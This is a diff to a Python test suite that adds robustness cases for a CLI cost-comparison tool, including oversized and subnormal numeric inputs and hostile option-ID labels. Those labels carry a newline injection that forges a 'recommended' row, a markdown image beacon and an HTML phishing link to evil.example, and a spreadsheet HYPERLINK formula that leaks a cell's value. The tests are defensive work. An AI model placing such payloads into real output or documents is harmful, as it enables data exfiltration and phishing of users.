@@ -254,6 +254,30 @@ def special_cases() -> list[Case]:
         data["workload"]["cache_write_tokens"] = 5000
         return ["compare", _write(tmp, "cw.yaml", data)]
 
+    def edited(name: str, edit: Callable[[dict], None], text: Callable[[dict], str] | None = None) -> Callable:
+        """The support example with `edit` applied (round two of the attack, 2026-12-03)."""
+
+        def argv(tmp: Path) -> list[str]:
+            data = _scenario(tmp, "support-assistant")
+            edit(data)
+            return ["compare", _write(tmp, f"{name}.yaml", data, text(data) if text else None)]
+
+        return argv
+
+    def many_options(data: dict) -> None:
+        data["options"] = [{**data["options"][0], "id": f"o{i}"} for i in range(1000)]
+
+    def subnormal_curve(data: dict) -> None:
+        data["workload"].pop("peak_to_average", None)
+        data["workload"]["daily_curve"] = [5e-324] + [0] * 23
+
+    def huge_growth(data: dict) -> None:
+        data.update(horizon_months=120)
+        data["workload"].update(requests_per_month=1e15, monthly_growth=10)
+
+    def option_id(value: str) -> Callable[[dict], None]:
+        return lambda data: data["options"][0].update(id=value)
+
     def capacity_arg(flag: str, value: str) -> Callable[[Path], list[str]]:
         def argv(tmp: Path) -> list[str]:
             base = {"--input-tokens": "2000", "--output-tokens": "500", flag: value}
@@ -289,6 +313,22 @@ def special_cases() -> list[Case]:
         Case("uncertainty:throughput_rel_sd=-0.0", uncertainty("throughput_rel_sd", -0.0)),
         Case("uncertainty:samples=200000", uncertainty("samples", 200_000)),
         Case("workload:cache_write_too_large", cache_write),
+        Case("work:1000-options", edited("many", many_options)),
+        Case("workload:daily-curve-subnormal", edited("curve", subnormal_curve)),
+        Case("workload:growth-beyond-1e15", edited("growth-huge", huge_growth)),
+        Case("parse:yaml-key-twice", edited("twice", lambda d: None, lambda d: yaml.safe_dump(d) + "options: []\n")),
+        *(
+            Case(f"label:{label}", edited(f"label-{n}", option_id(value)))
+            for n, (label, value) in enumerate(
+                {
+                    "newline": "x\nglm5-h200  rented  $1  recommended",
+                    "markdown-image": "![p](http://evil.example/p.png)",
+                    "formula": '=HYPERLINK("http://evil.example/?leak="&B2,"open")',
+                    "html": '<a href="https://evil.example/phish">LOGIN AGAIN</a>',
+                    "100000-chars": "a" * 100_000,
+                }.items()
+            )
+        ),
         *(
             Case(f"capacity:{flag}={value}", capacity_arg(flag, value))
             for flag in ("--input-tokens", "--cached-input-share")
